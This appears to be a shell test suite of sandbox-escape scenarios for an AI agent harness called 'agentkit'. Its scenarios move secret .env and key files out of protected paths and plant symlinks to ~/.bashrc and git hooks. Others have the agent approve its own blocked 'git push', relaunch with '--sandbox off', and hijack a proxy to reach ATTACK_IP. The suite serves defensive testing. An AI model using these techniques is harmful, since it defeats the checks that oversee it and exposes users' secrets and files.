# Attacks in several calls: what one leaves decides what the next may do. Each function is
# one: it runs outside, in the workspace, and fails when something got out. What a call
# shows of a secret is found by who runs this. See README.md.
R=$ATTACK_ROOT O=$ATTACK_OTHER H=$HOME
script() { cat > "$R/loot/$1"; }
run() { agentkit bash "$@" >> "$R/loot/out.txt" 2>&1; :; }
look() { # opens what is named in a way that no text shows
	script look.pl <<'P'
use File::Find;
find({no_chdir => 1, wanted => sub { return unless -f $_; open(my $f, "<", $_) or return; print "$_: ", <$f>, "\n" }}, @ARGV ? @ARGV : ".");
P
	run "perl loot/look.pl $1"
}
stop() { agentkit kill all > /dev/null 2>&1; :; } # no job goes on while it is judged
same() { [ "$(cat "$1" 2>/dev/null)" = victim ]; }

s_secret_to_node_modules() {
	script a.pl <<'P'
mkdir "node_modules"; rename("sub", "node_modules/sub");
P
	run 'perl loot/a.pl'; look; run 'perl -ne print node_modules/*/.e*'
	agentkit read node_modules/sub/.env >> "$R/loot/out.txt"; agentkit grep CAN[A]RY node_modules >> "$R/loot/out.txt"; :
}
s_secret_to_git_objects() {
	script a.pl <<'P'
rename("sub", "nested/.git/objects/sub"); rename("private", ".git/objects/p"); rename("sub2", ".git/refs/s");
P
	run 'perl loot/a.pl'; look
}
s_secret_of_two_names() {
	script a.pl <<'P'
rename("crate/.cargo", "crate/cargo"); rename("crate", "crate2"); rename("crate2/.cargo", "crate2/c");
P
	run 'perl loot/a.pl'; look
}
s_secret_renamed() {
	script a.pl <<'P'
for (qw(sub/.env private/key .env sub/id_rsa)) { rename($_, "$_.example"); rename($_, "loot/x"); link($_, "loot/y"); symlink("../$_", "loot/z") }
rename("private", "public"); rename("sub", "loot/sub.example");
P
	run 'perl loot/a.pl'; look
}
s_secret_by_other_names() { look; run 'perl -e "print <>" plain.txt sub/plain.txt'; :; }
s_secret_in_the_place_of_what_is_tracked() {
	echo once > tracked.env; git add -f tracked.env && git -c user.name=a -c user.email=a@b commit -qm x; run true
	script a.pl <<'P'
rename("tracked.env", "loot/t"); rename("sub/.env", "tracked.env"); rename("sub", "tracked.env");
P
	run 'perl loot/a.pl'; look
}
s_secret_while_a_job_moves_it() {
	was=$(mktemp -d) && cp -a sub/.vscode "$was"
	script a.pl <<'P'
mkdir "node_modules"; for (1..4000) { rename("sub", "node_modules/sub"); rename("node_modules/sub", "sub") }
P
	agentkit bash --background 'perl loot/a.pl' > /dev/null
	for i in 1 2 3 4 5 6; do look; done; stop
	# The job may have been ended between its two steps, and at level 2 what another call
	# finds in a place where it was not is put away. Here it is the secret that counts.
	test -d sub || mv node_modules/sub sub
	test ! -d node_modules/sub || { mv -n node_modules/sub/* node_modules/sub/.[!.]* sub/; rm -rf node_modules/sub; }
	test -e sub/.vscode/settings.json || { mkdir -p sub/.vscode && cp -a "$was/.vscode/." sub/.vscode; }
	rm -rf "$was"
}
# A directory that holds a secret and nothing else.
late() { [ "$ATTACK_LEVEL" = L3 ] && mkdir -p late/d && printf "CAN%s\n" "ARY late" > late/d/.env; }
s_secret_while_a_job_races() { # it is moved away from where it was seen to be
	late || return 0
	script a.pl <<'P'
my $end = time + 2; while (time < $end) { rename("late/d", "src/d"); rename("src/d", "late/d") }
P
	script read.pl <<'P'
for (1..5000) { for my $f ("late/d/.env", "src/d/.env") { open(F, "<", $f) and do { print <F>; exit } } }
P
	agentkit bash --background 'perl loot/a.pl' > /dev/null
	for i in 1 2 3 4 5; do run "perl loot/read.pl"; done; stop
	rm -rf late src/d
}
s_secret_that_is_removed() { # what a call may remove, another program of it may not read
	script a.pl <<'P'
for my $f ("late/d/.env", "loot/d/.env", "loot/copy/.env") { open(F, "<", $f) and print <F> }
P
	for how in "rm -rf late" "rm -f late/d/.env" "mv late/d loot/d"; do
		late || return 0
		run "perl loot/a.pl; false && $how"; run "false && $how; perl loot/a.pl"; run "false && $how; cp -r late/d loot/copy"; run "perl loot/a.pl; $how; perl loot/a.pl"
	done
	rm -rf late loot/d
}
s_secret_that_is_written() { # what a call may write, another program of it may not read
	late || return 0
	script a.pl <<'P'
open(F, "<", "late/d/.env") and print <F>
P
	for how in "touch late/d/.env" "chmod 600 late/d/.env" "echo x >> late/d/.env" "cp loot/a.pl late/d/.env" "tee late/d/.env < /dev/null" "mv loot/none late/d/.env" "chmod -R u+w late" "chown -R 0 late" "find late -type f -exec touch {} +" "find late -name '*.txt' -exec sed -i s/a/b/ {} +" "find late -type f -print0 | xargs -0 touch" "find . -name '*.orig' -delete" "gofmt -w late" "rsync -a src/ late/" "setfacl -R -m u:0:r late"; do
		run "perl loot/a.pl; false && $how"; run "false && $how; perl loot/a.pl"
	done
	rm -rf late
}
s_secret_of_a_call_that_removes_it() { # the shell of that call reads a file that is another by then
	late || return 0
	script a.pl <<'P'
my $end = time + 8; symlink("../late/d/.env", "loot/l");
while (time < $end) { open(F, ">", "loot/n"); print F "plain\n"; close F; rename("loot/n", "loot/swapped"); symlink("../late/d/.env", "loot/m"); rename("loot/m", "loot/swapped") }
P
	agentkit bash --background 'perl loot/a.pl' > /dev/null
	for i in 1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20; do late; run 'read x < loot/swapped; echo "$x"; rm -rf late'; done; stop
	rm -rf late loot/swapped loot/l loot/m
}
s_protected_beside_what_is_written() { # nor may a tree that is written open what each file of it does not
	script a.pl <<'P'
for (".git/config", "sub/.vscode/settings.json", "nested/.git/config", ".envrc", "deploy/run.sh", "locked/f.lock") { open(F, ">>", $_) and print F "EVIL"; close F }
P
	for how in "find . -name '*.orig' -delete" "find . -name '*.orig' -exec touch {} +" "find . -name '*.orig' -exec rm {} +" "find . -name '*.orig' -exec sed -i s/a/b/ {} +" "chmod -R u+w sub" "chown -R 0 sub" "find sub -type f | xargs touch" "touch src/f" "mkdir -p sub/x" "mv sub/none sub/there" "rm -rf sub/none"; do
		run "perl loot/a.pl; false && $how"
	done
}
s_secret_that_find_finds() { # at level 2 the text alone keeps a command from it
	[ "$ATTACK_LEVEL" = L2 ] || return 0
	mkdir -p found && printf "CAN%s\n" "ARY found" > found/.env
	for how in "find found -exec cat {} \\; -name '*.go'" "find . -name '[!x]env' -exec cat {} +" "find . -name found -exec grep -r . {} +" "find . -name f -exec cat {}/../../found/.env \\;" "find found -name .env -exec rg . {} +" "find src -name f -execdir cat ../found/.env \\;" "find . -name f -fprintf /dev/stdout '%h/../found/.env\\n' | xargs cat" "find . | grep -o 'found/\\.env' | xargs cat"; do run "$how"; done
	rm -rf found
}
s_secret_to_temp() {
	late || return 0
	run "mv late/d $TMPDIR/d"; run "false && rm -rf late; mv late/d $TMPDIR/d"; look "$TMPDIR/d"; look "$TMPDIR"; rm -rf "$TMPDIR/d" late
}
s_git_writes_through_links() { # git outside writes what others have chosen to where links of ours lead
	script a.pl <<'P'
for my $g (".git", "nested/.git") {
	for (qw(COMMIT_EDITMSG FETCH_HEAD ORIG_HEAD logs/HEAD logs/refs/heads/x MERGE_MSG)) { mkdir "$g/logs"; unlink "$g/$_"; symlink("$ENV{HOME}/.bashrc", "$g/$_") }
	for (qw(SQUASH_MSG logs/y)) { link(".envrc", "$g/$_"); link(".git/hooks/pre-commit", "$g/$_"); link("src/f", "$g/$_") }
}
P
	cp -a .git/logs "$ATTACK_BASE/logs"; run 'perl loot/a.pl'
	n=$(find .git nested/.git \( -path '*/objects' -prune \) -o \( -type l -o -type f -links +1 \) -print | wc -l)
	rm -rf .git/logs; mv "$ATTACK_BASE/logs" .git/logs; [ "$n" = 0 ]
}
s_link_in_the_way_of_a_rule() {
	mkdir -p x/y
	script a.pl <<'P'
rename("x", "loot/x"); symlink("$ENV{ATTACK_OTHER}", "x");
P
	script b.pl <<'P'
for my $f ("$ENV{ATTACK_OTHER}/y/f", "x/y/f") { open(F, ">", $f) and print F "EVIL"; close F }
P
	run --allow 'edit(x/y/**)' 'perl loot/a.pl'; run --allow 'edit(x/y/**)' 'perl loot/b.pl'; same "$O/y/f"
}
s_link_in_the_way_of_a_tool() {
	run 'ln -s "$ATTACK_OTHER/y" x'
	agentkit write --path x/f --content EVIL > /dev/null; agentkit edit --path x/f --old victim --new EVIL > /dev/null; same "$O/y/f"
}
s_link_in_the_way_of_what_is_put_back() {
	script a.pl <<'P'
mkdir "loot/real"; mkdir "loot/real/.husky"; mkdir "race"; symlink($ENV{ATTACK_OTHER}, "loot/l");
mkdir "race/d"; open(F, ">", "race/d/.envrc"); close F; mkdir "race/d/.husky"; open(F, ">", "race/d/.husky/f"); close F;
for (1..20000) { rename("race", "loot/r"); rename("loot/l", "race"); rename("race", "loot/l"); rename("loot/r", "race") }
P
	agentkit bash --background 'perl loot/a.pl' > /dev/null
	for i in 1 2 3 4 5 6; do run true; done; stop
	same "$O/d/.husky/f" && same "$O/d/.envrc"
}
s_root_replaced() {
	script a.pl <<'P'
my ($up, $name) = $ENV{ATTACK_TEMP_ROOT} =~ m{(.*)/(.*)}; chdir $up; rename($name, "$name.away") and symlink($ENV{ATTACK_OTHER}, $name);
P
	mkdir -p "$ATTACK_TEMP_ROOT"; cp loot/a.pl "$ATTACK_TEMP_ROOT"
	(cd "$ATTACK_TEMP_ROOT" && agentkit bash 'perl a.pl' > /dev/null)
	(cd "$ATTACK_TEMP_ROOT/." 2>/dev/null && agentkit write --path victim --content EVIL > /dev/null)
	s=0; [ ! -L "$ATTACK_TEMP_ROOT" ] && same "$O/victim" || s=1
	rm -rf "$ATTACK_TEMP_ROOT" "$ATTACK_TEMP_ROOT.away"; return $s
}
s_planted_by_a_job() {
	script a.pl <<'P'
for (1..30) { mkdir "late"; mkdir "late/.husky"; open(F, ">", "late/.husky/pre-commit"); print F "PLANTED"; close F; open(F, ">", "late/.envrc"); print F "PLANTED"; close F; select(undef, undef, undef, 0.05) }
P
	agentkit bash --background 'perl loot/a.pl' > /dev/null; sleep 0.3; run true; sleep 2; run true; stop
}
s_planted_and_killed() {
	script a.pl <<'P'
mkdir "k"; open(F, ">", "k/.envrc"); print F "PLANTED"; close F; sleep 60;
P
	agentkit bash 'perl loot/a.pl' > /dev/null & p=$!; sleep 0.7; kill -9 $p; wait $p 2>/dev/null; sleep 0.2; run true
}
s_planted_and_shut() {
	script a.pl <<'P'
mkdir "u"; mkdir "u/v"; open(F, ">", "u/v/.envrc"); print F "PLANTED"; close F; chmod 0, "u/v"; chmod 0111, "u";
P
	run 'perl loot/a.pl'; chmod -R u+rwx u 2>/dev/null; :
}
s_read_only_profile() {
	script a.pl <<'P'
open(F, ">", "src/new") and print F "EVIL"; close F; open(F, ">", "src/f") and print F "EVIL"; unlink "src/f";
P
	agentkit --profile readonly --allow 'bash(perl *)' bash 'perl loot/a.pl' >> "$R/loot/out.txt" 2>&1; [ ! -e src/new ] && [ "$(cat src/f)" = "a file" ]
}
s_granted_file_only() {
	script a.pl <<'P'
for my $n ("new", "victim", ".profile") { open(F, ">", "$ENV{ATTACK_OTHER}/$n") and print F "EVIL"; close F }
P
	agentkit --allow "edit($O/granted)" bash "echo x > $O/granted; perl loot/a.pl" >> "$R/loot/out.txt" 2>&1
	rm -f "$O/granted"; echo x > loot/x
	agentkit --allow "edit($O/granted)" bash "perl loot/a.pl; mv loot/x $O/granted" >> "$R/loot/out.txt" 2>&1
	agentkit --allow "edit($O/granted)" bash "perl loot/a.pl $O/granted" >> "$R/loot/out.txt" 2>&1
	rm -f "$O/granted"; same "$O/victim" && [ ! -e "$O/new" ] && [ ! -e "$O/.profile" ]
}
s_approves_itself() {
	id=$(agentkit --ask= bash 'git push origin main' | sed -n 's/.*policy approve \([a-z0-9]*\).*/\1/p' | head -1)
	for how in "agentkit policy approve $id" "setsid agentkit policy approve $id" "env -i HOME=\$HOME PATH=\$PATH agentkit policy approve $id" "agentkit policy trust" "agentkit policy allow 'bash(*)'" "echo 'agentkit policy approve $id' | sh" "cp \$(command -v agentkit) loot/ak; loot/ak policy approve $id"; do run "$how"; done
	! agentkit policy approvals | grep -q '"approved"'
}
s_calls_agentkit_without_a_sandbox() {
	run 'agentkit --sandbox off --allow bash --allow edit bash "echo EVIL > $ATTACK_OTHER/victim"'
	run 'agentkit --policy /dev/null write --path "$ATTACK_OTHER/victim" --content EVIL'
	run 'XDG_STATE_HOME=$PWD/loot/state agentkit --sandbox outer bash "echo EVIL > $ATTACK_OTHER/victim"'
	same "$O/victim"
}
s_fills_the_state() {
	script a.pl <<'P'
open(S, ">", "/dev/stdout"); my $b = "x" x 65536; for (1..64) { print $b } truncate("/proc/self/fd/1", 0); seek(STDOUT, 0, 0);
P
	run 'perl loot/a.pl'; run 'true'
}
s_proxy_of_another_call() { # a job looks for the proxy that another command was given
	script a.py <<'P'
import os, re, socket, time
end = time.time() + 2
while time.time() < end:
    ports = [int(l.split()[1].split(":")[1], 16) for l in open("/proc/net/tcp").readlines()[1:] if l.split()[3] == "0A"]
    for port in ports:
        try:
            s = socket.create_connection(("127.0.0.1", port), 0.2)
            s.settimeout(0.3)
            s.sendall(b"CONNECT %s:%s HTTP/1.1\r\n\r\n" % (os.environ["ATTACK_IP"].encode(), os.environ["ATTACK_TCP"].encode()))
            while d := s.recv(100): # other servers of this machine answer, too
                print("PROXY", d)
        except OSError:
            pass
P
	agentkit bash --background 'python3 loot/a.py > loot/proxied.txt 2>&1' > /dev/null
	agentkit --allow "net($ATTACK_IP:$ATTACK_TCP)" bash 'sleep 1; true' > /dev/null; sleep 1.5; stop
	! grep -q 'reached' loot/proxied.txt
}

mkdir -p "$R/loot"; cd "$R" || exit 2
if [ "$1" = list ]; then sed -n 's/^\(s_[a-z_]*\)().*/\1/p' "$0"; else "$1"; fi
